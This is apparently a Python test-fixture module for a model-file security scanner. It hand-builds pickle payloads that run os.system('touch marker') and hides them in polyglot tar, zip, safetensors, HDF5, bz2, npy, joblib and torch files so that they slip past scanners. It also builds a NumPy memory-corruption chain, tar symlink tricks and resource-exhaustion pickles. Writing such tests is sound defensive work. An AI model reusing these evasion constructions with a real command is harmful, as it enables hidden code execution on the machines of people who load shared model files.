"""Hand-assembled hostile files: the attack chain and the scanner bypasses of issue 15.

Each generator writes opcodes directly (never pickles a live object), so the tests show the
principle rather than replay particular files. The command they would run only creates a
marker file, so a test can tell whether anything ran.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile

import numpy as np


def su(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def glob2(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0-2 form)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+)."""
    return su(module) + su(name) + b"\x93"


def system_call(marker: str, *, proto: int = 2) -> bytes:
    """Opcodes that call os.system("touch marker") (no PROTO, no STOP)."""
    g = glob2("os", "system") if proto < 4 else sglob("os", "system")
    if proto == 0:  # text opcodes only: no NUL byte anywhere
        return g + b"(S'touch " + marker.encode() + b"'\ntR"
    return g + b"X" + struct.pack("<I", len(marker) + 6) + f"touch {marker}".encode() + b"\x85R"


def evil_pickle(marker: str, *, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + system_call(marker, proto=proto) + b"."


# --- the chain from the issue: allowlisted globals only ---------------------------------------


def chain_pickle(*, proto: int = 2) -> bytes:
    """The three moves of the memory-corruption chain, with allowlisted names only.

    1. an array whose BUILD state is computed by a call (``builtins.dict([...])``) and slips in
       ``__array_interface__`` (the state is not a dict written in the file);
    2. SETITEM on a call's result (the array), writing through it;
    3. an allowlisted NumPy helper (``__randomstate_ctor``) given a function the pickle chose.
    """
    g = glob2 if proto < 4 else sglob
    interface = (
        b"(" + su("__array_interface__") + b"}" + su("data") + b"(J\x00\x10\x00\x00\x88t"
        b"s" + su("shape") + b"K\x10\x85s" + su("typestr") + su("|u1") + b"s" + b"t"
    )
    computed_state = g("builtins", "dict") + b"(" + interface + b"l\x85R"
    array = g("numpy.core.multiarray", "_reconstruct") + g("numpy", "ndarray") + b"K\x00\x85"
    array += b"C\x01b\x87R"
    array += computed_state + b"b"  # BUILD with the computed state
    write = b"K\x00K\x41s"  # SETITEM on the array (a call result)
    helper = g("numpy.random._pickle", "__randomstate_ctor") + su("MT19937")
    helper += g("builtins", "bytearray") + b"\x86R"  # allowlisted, yet chosen by the file
    return b"\x80" + bytes([proto]) + b"(" + array + write + helper + b"l."


def as_gzip(data: bytes) -> bytes:
    return gzip.compress(data)


def as_npy(pickle_bytes: bytes) -> bytes:
    """An object-dtype .npy whose data is the given pickle."""
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        buf, {"descr": "|O", "fortran_order": False, "shape": (1,)}
    )
    return b"\x93NUMPY\x01\x00" + buf.getvalue()[8:] + pickle_bytes


def as_npz_member(pickle_bytes: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("ok.npy", _plain_npy())
        zf.writestr("x.npy", as_npy(pickle_bytes))
    return buf.getvalue()


def _plain_npy() -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.arange(3))
    return buf.getvalue()


# --- scanner bypasses ---------------------------------------------------------------------------


def hex_int_first(marker: str) -> bytes:
    """A protocol-0 pickle whose first INT is written in hex: pickle.load reads 16, a
    base-10 reader calls the stream malformed (and so 'not a pickle')."""
    return b"I0x10\n0" + system_call(marker) + b"."


def octal_int_first(marker: str) -> bytes:
    return b"I010\n0" + system_call(marker) + b"."


def underscore_long_first(marker: str) -> bytes:
    return b"L1_0\n0" + system_call(marker) + b"."


def _joblib_file(header_pairs: bytes, payload: bytes, trailer: bytes) -> bytes:
    """A joblib stream: one NumpyArrayWrapper whose BUILD state is ``header_pairs``, then
    ``payload`` (the array bytes joblib reads), then ``trailer`` (more pickle)."""
    head = b"\x80\x04" + sglob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    head += b"}(" + header_pairs + b"ub"
    return head + payload + trailer


def _dtype(code: str, elsize: int = -1) -> bytes:
    state = (
        b"(K\x03" + su("<") + b"NNN" + b"J" + struct.pack("<i", elsize) + b"J\xff\xff\xff\xffK\x00t"
    )
    return sglob("numpy", "dtype") + su(code) + b"\x89\x88\x87R" + state + b"b"


def joblib_duplicate_key(marker: str) -> bytes:
    """'shape' appears twice: joblib (a dict) keeps the last, so it reads 0 array bytes and
    then runs the pickle that a first-key reader skips as array data."""
    evil = b"0" + system_call(marker, proto=4) + b"."
    pairs = su("subclass") + sglob("numpy", "ndarray")
    pairs += su("shape") + b"K" + bytes([len(evil)]) + b"\x85"
    pairs += su("order") + su("C") + su("dtype") + _dtype("u1")
    pairs += su("allow_mmap") + b"\x89" + su("shape") + b"K\x00\x85"
    # joblib reads 0 bytes of data, then the next opcode of the same stream
    return _joblib_file(pairs, b"", evil)


def joblib_lying_dtype_size(marker: str) -> bytes:
    """The dtype state claims an element size of 64 for an 8-byte float: NumPy ignores it for
    fixed-size types, so joblib reads 8 bytes per element while a reader trusting the state
    skips 64 and lands past the pickle joblib runs."""
    evil = b"0" + system_call(marker, proto=4) + b"."
    pairs = su("subclass") + sglob("numpy", "ndarray")
    pairs += su("shape") + b"K\x01\x85" + su("order") + su("C")
    pairs += su("dtype") + _dtype("f8", elsize=64) + su("allow_mmap") + b"\x89"
    pad = 64 - 8 - len(evil)
    return _joblib_file(pairs, b"\x00" * 8, evil + b"N." * (pad // 2) + b"N" * (pad % 2) + b".")


def _multi_stream(compress: object, benign: bytes, marker: str) -> bytes:
    """A benign pickle in stream 1 and the payload in stream 2: the loaders read on."""
    # stream 1 holds an unfinished pickle whose rest is in stream 2
    whole = b"\x80\x02" + b"(" + benign + b"0" + system_call(marker) + b"."
    cut = 5
    return compress(whole[:cut]) + compress(whole[cut:])  # type: ignore[operator]


def multi_stream_bz2(marker: str) -> bytes:
    return _multi_stream(bz2.compress, b"N", marker)


def multi_stream_xz(marker: str) -> bytes:
    return _multi_stream(lzma.compress, b"N", marker)


def multi_stream_lzma(marker: str) -> bytes:
    return _multi_stream(lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE), b"N", marker)


def tar_polyglot(marker: str) -> bytes:
    """A pickle at byte 0 that is also a valid tar header (the pickle is the member name)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        info = tarfile.TarInfo("weights.bin")
        info.size = 4
        tf.addfile(info, io.BytesIO(b"\x00" * 4))
    data = bytearray(buf.getvalue())
    evil = b"N0" + system_call(marker, proto=0) + b"."  # text opcodes, no NUL byte
    assert len(evil) < 100 and b"\x00" not in evil
    data[0:100] = evil + b"\x00" * (100 - len(evil))
    data[148:156] = b" " * 8
    checksum = sum(data[:512])
    data[148:156] = b"%06o\x00 " % checksum
    return bytes(data)


def safetensors_polyglot(marker: str) -> bytes:
    """Bytes 0-7 read as a safetensors header length, byte 8 is '{': and the same bytes are a
    BINBYTES opcode whose payload covers them, followed by the payload pickle."""
    length = 4
    n = 0x42 + (length << 8)  # 'B', then the BINBYTES length in bytes 1-4, zeros after
    head = b"B" + struct.pack("<I", length) + b"\x00\x00\x00{"
    assert struct.unpack("<Q", head[:8])[0] == n
    body = head + b"0" + system_call(marker) + b"."
    return body + b" " * (8 + n - len(body) + 16)


def hdf5_userblock_polyglot(marker: str) -> bytes:
    """A pickle in the 512-byte HDF5 user block, before a real HDF5 superblock."""
    evil = evil_pickle(marker)
    block = evil + b"\x00" * (512 - len(evil))
    # a minimal superblock signature after the user block (h5py is not needed to build it)
    return block + b"\x89HDF\r\n\x1a\n" + b"\x00" * 512


def zip_appended_polyglot(marker: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("a.npy", _plain_npy())
    return evil_pickle(marker) + buf.getvalue()


def npy_python2_header(marker: str) -> bytes:
    """A .npy header NumPy accepts (Python 2 long literals) around an object-array pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1L,), }"
    header += b" " * (64 - 10 - len(header) - 1) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + evil_pickle(marker)


def npy_large_header(marker: str) -> bytes:
    """A 2 MiB header: np.load(allow_pickle=True) ignores its header size limit."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    total = 2 << 20
    header += b" " * (total - 12 - len(header) - 1) + b"\n"
    return b"\x93NUMPY\x02\x00" + struct.pack("<I", len(header)) + header + evil_pickle(marker)


def npy_bool_shape(marker: str) -> bytes:
    """shape (True,): NumPy's header check is isinstance(x, int), and True is an int."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (True,), }"
    header += b" " * (64 - 10 - len(header) - 1) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + evil_pickle(marker)


def hdf5_h5py_userblock_polyglot(marker: str) -> bytes:
    """A real HDF5 file (written by h5py, with one dataset) whose 512-byte user block holds a
    pickle: h5py reads the dataset, pickle.load runs the pickle."""
    import os
    import tempfile

    import h5py

    evil = evil_pickle(marker)
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "model.h5")
        with h5py.File(path, "w", userblock_size=512) as f:
            f.create_dataset("weights", data=np.arange(6, dtype=np.float32).reshape(2, 3))
        with open(path, "r+b") as f:  # the user block is the application's: h5py leaves it
            f.write(evil)
        with open(path, "rb") as f:
            return f.read()


BZ2_BENIGN = b"benign weights"


def bz2_pickle_polyglot(path: str, marker: str) -> None:
    """Write a file that is a bz2 stream and, read from byte 0, a pickle that runs code.

    ``BZh9`` and the block magic's first byte are BINBYTES and its length, 825,845,850 bytes:
    the pickle's real opcodes sit after that many bytes. The gap is a hole in a sparse file,
    so the file costs a few kilobytes of disk; bz2 readers stop at the first stream's end.
    """
    stream = bz2.compress(BZ2_BENIGN, 9)
    (length,) = struct.unpack("<I", stream[1:5])
    assert stream[:1] == b"B" and length == 825_845_850
    with open(path, "wb") as f:
        f.write(stream)
        f.seek(5 + length)  # the hole: read back as zeros, part of the BINBYTES value
        f.write(b"0" + system_call(marker) + b".")  # POP the bytes, then the call


# --- members the scanner used to skip, read by np.load or torch.load -----------------------


def npz_folder_member(marker: str) -> bytes:
    """A deflated zip whose member 'evil/' (a folder by its name) holds an object .npy:
    np.load's archive reads any member by name, folder or not."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("ok.npy", _plain_npy())
        zf.writestr("evil/", as_npy(evil_pickle(marker)))
    return buf.getvalue()


def npz_torch_storage_member(marker: str) -> bytes:
    """A torch-shaped zip (a data.pkl) whose storage member 'arch/data/0' is an object .npy:
    torch copies storages raw, np.load's archive reads the member as an array."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("arch/data.pkl", b"\x80\x02}q\x00.")
        zf.writestr("arch/data/0", as_npy(evil_pickle(marker)))
    return buf.getvalue()


def torch_tar_storages(marker: str) -> bytes:
    """A legacy (tar) torch.save file: its 'storages' member is a count, then per storage a
    pickle and raw bytes, then the storage views pickle, all unpickled by torch.load. The
    payload is that last pickle, after the raw bytes of one float."""
    storages = b"\x80\x02K\x01." + b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
    storages += glob2("torch", "FloatStorage") + b"t."
    storages += struct.pack("<q", 1) + struct.pack("<f", 1.0) + evil_pickle(marker)
    return legacy_torch_tar(storages)


def legacy_torch_tar(storages: bytes) -> bytes:
    """A legacy torch tar with the given storages member and no tensors."""
    members = {
        "sys_info": b"\x80\x02}q\x00.",
        "storages": storages,
        "tensors": b"\x80\x02K\x00.",
        "pickle": b"\x80\x02}q\x00.",
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _zip_entries(members: list[tuple[bytes, bytes]], *, deflate: bool) -> tuple[bytes, bytes]:
    """(local headers and data, central directory) of a zip whose offsets start at 0."""
    import zlib

    local, central = b"", b""
    for name, data in members:
        body = zlib.compress(data)[2:-4] if deflate else data
        method, crc = (8 if deflate else 0), zlib.crc32(data)
        sizes = (crc, len(body), len(data), len(name))
        central += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, method, 0, 0, *sizes,
                               0, 0, 0, 0, 0, len(local)) + name  # fmt: skip
        local += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, method, 0, 0, *sizes, 0)
        local += name + body
    return local, central


def zip_prepended_for_torch(marker: str) -> bytes:
    """Bytes before a zip whose offsets start at its own first byte: zipfile shifts every
    offset by them and reads the benign data.pkl at the end; torch's reader (miniz) takes
    the offsets as written and finds, at the start, a second archive whose data.pkl runs code."""
    benign = b"\x80\x02}q\x00X\x01\x00\x00\x00wX" + struct.pack("<I", 400) + b"x" * 400 + b"s."
    evil = [(b"archive/data.pkl", evil_pickle(marker)), (b"archive/version", b"3\n")]
    honest = [(b"archive/data.pkl", benign), (b"archive/version", b"3\n")]
    evil_local, evil_central = _zip_entries(evil, deflate=True)
    local, central = _zip_entries(honest, deflate=False)
    assert len(evil_central) == len(central) and len(evil_local) <= len(local)
    # miniz reads the central directory at the offset the end record gives, from byte 0
    head = evil_local + b"\0" * (len(local) - len(evil_local)) + evil_central + b"\0" * 16
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 2, 2, len(central), len(local), 0)
    return head + local + central + end


def joblib_second_build(marker: str) -> bytes:
    """The wrapper is fetched again from the memo and built a second time: joblib's BUILD
    adds to the attributes of the first (shape (0,) from its state, so 0 bytes are read),
    while a reader that keeps only the latest state uses the constructor's shape and skips,
    as array data, the pickle that joblib runs."""
    evil = system_call(marker, proto=2) + b"0"
    head = b"\x80\x02" + glob2("joblib.numpy_pickle", "NumpyArrayWrapper") + b"("
    head += glob2("numpy", "ndarray") + b"M" + struct.pack("<H", len(evil)) + b"\x85"
    head += su("C") + _dtype("u1") + b"tRq\xc8"
    first = b"}" + su("shape") + b"K\x00\x85sb" + b"\x00" + b"0"  # pad byte, 0 bytes, POP
    second = b"h\xc8}" + su("order") + su("C") + b"sb" + b"\x00"
    return head + first + second + evil + b"0N."


def joblib_wrapper_by_reconstructor(marker: str) -> bytes:
    """copyreg._reconstructor(NumpyArrayWrapper, object, None) makes a wrapper without its
    constructor; joblib reads array data after its BUILD all the same. A reader that does not
    see a wrapper there takes the 2 data bytes b'.\\xff' for the end of the pickle and
    trailing garbage, and never reads the pickle joblib runs after them."""
    wrapper = glob2("copyreg", "_reconstructor") + b"("
    wrapper += glob2("joblib.numpy_pickle", "NumpyArrayWrapper") + glob2("builtins", "object")
    wrapper += b"NtR}(" + su("subclass") + glob2("numpy", "ndarray") + su("shape") + b"K\x02\x85"
    wrapper += su("order") + su("C") + su("dtype") + _dtype("u1") + b"ub"
    return b"\x80\x02" + wrapper + b".\xff" + system_call(marker, proto=2) + b"00N."


def torch_v7_tar(marker: str) -> bytes:
    """The legacy torch tar above as a pre-POSIX (v7) tar: no 'ustar' magic, only header
    checksums, which is all tarfile (and so torch.load) needs. Its first member is named 'N.',
    so read from byte 0 it is also a pickle that returns None and stops."""
    buf = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(torch_tar_storages(marker))) as src,
        tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf,
    ):
        tf.addfile(tarfile.TarInfo("N."))
        for member in src.getmembers():
            tf.addfile(member, src.extractfile(member))
    raw = bytearray(buf.getvalue())
    offset = 0
    while offset + 512 <= len(raw) and any(raw[offset : offset + 512]):
        size = tarfile.TarInfo.frombuf(bytes(raw[offset : offset + 512]), "utf-8", "strict").size
        raw[offset + 257 : offset + 265] = bytes(8)  # no magic, no version
        raw[offset + 148 : offset + 156] = b" " * 8
        raw[offset + 148 : offset + 156] = b"%06o\0 " % sum(raw[offset : offset + 512])
        offset += 512 + (size + 511) // 512 * 512
    return bytes(raw)


def _plain_zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def torch_zip_in_data_folder(marker: str) -> bytes:
    """A torch zip whose folder (torch takes it from the first member's name) is called
    'data': its pickle is data/data.pkl, a name that also has the shape of a raw storage
    member (<folder>/data/<key>), which torch never unpickles."""
    return _plain_zip([("data/data.pkl", evil_pickle(marker)), ("data/version", b"3\n")])


def torch_zip_pickle_name_case(marker: str) -> bytes:
    """torch's zip reader (miniz) finds data/data.pkl ignoring ASCII case: here it reads
    data/DATA.PKL, listed first, while an exact-case data/data.pkl is benign."""
    return _plain_zip(
        [
            ("data/DATA.PKL", evil_pickle(marker)),
            ("data/data.pkl", b"\x80\x02N."),
            ("data/version", b"3\n"),
        ]
    )


def torch_views(count: int) -> bytes:
    """A torch zip whose data.pkl is a list of ``count`` views of one 4-float storage: 15
    bytes of pickle each (storage, function, size and stride come from the memo), about 600
    bytes of memory each once built."""
    head = b"\x80\x04(" + su("storage") + glob2("torch", "FloatStorage") + su("0") + su("cpu")
    head += b"K\x04tQ\x940" + glob2("torch._utils", "_rebuild_tensor_v2") + b"\x940"
    head += b"K\x04\x85\x94K\x01\x85\x94"  # memo: 0 storage, 1 function, 2 size, 3 stride
    view = b"h\x01(h\x00K\x00h\x02h\x03\x89NtR"
    pkl = head + b"](" + view * count + b"e."
    return _plain_zip(
        [
            ("archive/data.pkl", pkl),
            ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)),
            ("archive/version", b"3\n"),
        ]
    )


def zip64_locator_elsewhere(marker: str) -> bytes:
    """Two zip64 end records: zipfile reads the one just before the locator (a benign
    central directory), torch's reader (miniz) the one at the offset the locator gives (a
    central directory whose data.pkl runs code)."""
    evil, benign = evil_pickle(marker), b"\x80\x02}q\x00."
    members = [(b"archive/data.pkl", evil), (b"archive/data.pkl", benign)]
    members.append((b"archive/version", b"3\n"))
    local, central = _zip_entries(members, deflate=False)
    entry = struct.calcsize("<4s6H3I5H2I")
    sizes = [entry + len(name) for name, _ in members]
    evil_cd = central[: sizes[0]] + central[sizes[0] + sizes[1] :]
    benign_cd = central[sizes[0] :]

    def record(size: int, offset: int) -> bytes:
        return struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 2, 2, size, offset)

    first = len(local)  # miniz's end record, then its directory, then zipfile's
    evil_at = first + 56
    benign_at = evil_at + len(evil_cd)
    second = benign_at + len(benign_cd)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, first, 1)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    assert second == benign_at + len(benign_cd)
    return (
        local + record(len(evil_cd), evil_at) + evil_cd + benign_cd
        + record(len(benign_cd), benign_at) + locator + end
    )  # fmt: skip


def _object_dtype() -> bytes:
    state = b"(K\x03" + su("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ft"
    return sglob("numpy", "dtype") + su("O8") + b"\x89\x88\x87R" + state + b"b"


def joblib_wrapper(count: int, dtype: bytes) -> bytes:
    """A NumpyArrayWrapper made by NEWOBJ and given its header by BUILD (no alignment byte):
    joblib.load reads ``count`` elements of data after it; pickle.load just builds it."""
    pairs = su("subclass") + sglob("numpy", "ndarray") + su("shape")
    pairs += b"M" + struct.pack("<H", count) + b"\x85" + su("order") + su("C") + su("dtype") + dtype
    return sglob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + pairs + b"ub"


def joblib_array_read_by_pickle(marker: str) -> bytes:
    """To joblib.load, an array whose bytes are opcodes; to pickle.load and np.load, which
    read no data after the wrapper, those opcodes run."""
    evil = system_call(marker, proto=4) + b"0"
    return b"\x80\x04" + joblib_wrapper(len(evil), _dtype("u1")) + evil + b"."


def joblib_array_read_by_pickle_gzip(marker: str) -> bytes:
    """The same, gzip-compressed (pickle.load(gzip.open(path))): a stream read once."""
    return gzip.compress(joblib_array_read_by_pickle(marker))


def joblib_object_array_with_wrapper(marker: str) -> bytes:
    """joblib reads an object array's data with plain pickle.load: a wrapper inside it reads
    no array data, so the opcodes after it run."""
    return (
        b"\x80\x04"
        + joblib_wrapper(1, _object_dtype())
        + joblib_array_read_by_pickle(marker)
        + b"."
    )


def npy_object_pickle_with_wrapper(marker: str) -> bytes:
    """An object .npy whose pickle holds a wrapper: np.load runs it with pickle.load."""
    return as_npy(joblib_array_read_by_pickle(marker))


def shared_tuple(levels: int) -> bytes:
    """T0 = (); Ti = (T(i-1), T(i-1)) through the memo: 2**levels leaves when walked."""
    out = bytearray(b")")
    for i in range(levels):
        out += b"\x94h" + bytes([i]) + b"\x86"  # MEMOIZE, BINGET i, TUPLE2
    return bytes(out)


def _dtype_state(order: str, extra: bytes, elsize: int, align: int, flags: int) -> bytes:
    head = b"(K\x03" + su(order) + b"N" + extra
    return (
        head
        + b"J"
        + struct.pack("<i", elsize)
        + b"J"
        + struct.pack("<i", align)
        + b"K"
        + bytes([flags])
        + b"t"
    )


def dtype_tree(fan: int, depth: int) -> bytes:
    """A structured dtype of ``fan`` fields of one structured dtype of ``fan`` fields ...
    ``depth`` levels deep, each level a few dozen bytes (every field names the level below
    through the memo): fan**depth float64 leaves when walked as a tree."""
    plain = _dtype_state("<", b"NN", -1, -1, 0)
    out = b"\x80\x04" + sglob("numpy", "dtype") + su("f8") + b"\x89\x88\x87R" + plain + b"b"
    out += b"r" + struct.pack("<I", 0)
    size = 8
    for level in range(1, depth + 1):
        names = b"(" + b"".join(su(f"f{i}") for i in range(fan)) + b"t"
        fields = b"}("
        for i in range(fan):
            fields += su(f"f{i}") + b"j" + struct.pack("<I", level - 1)
            fields += b"J" + struct.pack("<i", i * size) + b"\x86"
        fields += b"u"
        state = _dtype_state("|", names + fields, fan * size, 1, 16)
        out += b"0" + sglob("numpy", "dtype") + su(f"V{fan * size}") + b"\x89\x88\x87R" + state
        out += b"b" + b"r" + struct.pack("<I", level)
        size *= fan
    return out + b"."


def _legacy_tar_with_link(storages_target: bytes, link: tuple[int, str]) -> bytes:
    """A legacy torch tar whose 'storages' member is a link (tar type, target) to another
    member 'x' holding ``storages_target``, or to a path outside the archive."""
    members: list[tuple[str, bytes | None, tuple[int, str] | None]] = [
        ("sys_info", b"\x80\x02}q\x00.", None),
        ("x", storages_target, None),
        ("storages", None, link),
        ("tensors", b"\x80\x02K\x00.", None),
        ("pickle", b"\x80\x02}q\x00.", None),
    ]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data, target in members:
            info = tarfile.TarInfo(name)
            if target is not None:
                info.type, info.linkname = target[0], target[1]
                tf.addfile(info)
            else:
                assert data is not None
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def torch_tar_storages_hardlink(marker: str) -> bytes:
    """torch.load extracts 'storages' by name; a hard link makes it the data of member 'x',
    whose records (a pickle, raw bytes, the views pickle that runs) are read as storages."""
    storages = b"\x80\x02K\x01." + b"\x80\x02(X\x01\x00\x00\x000X\x03\x00\x00\x00cpu"
    storages += glob2("torch", "FloatStorage") + b"t."
    storages += struct.pack("<q", 1) + struct.pack("<f", 1.0) + evil_pickle(marker)
    return _legacy_tar_with_link(storages, (tarfile.LNKTYPE, "x"))


def torch_tar_storages_symlink_outside(path: str) -> bytes:
    """'storages' is a symbolic link to a path outside the archive: torch.load extracts the
    link and unpickles whatever that path holds."""
    return _legacy_tar_with_link(b"\x80\x02N.", (tarfile.SYMTYPE, path))
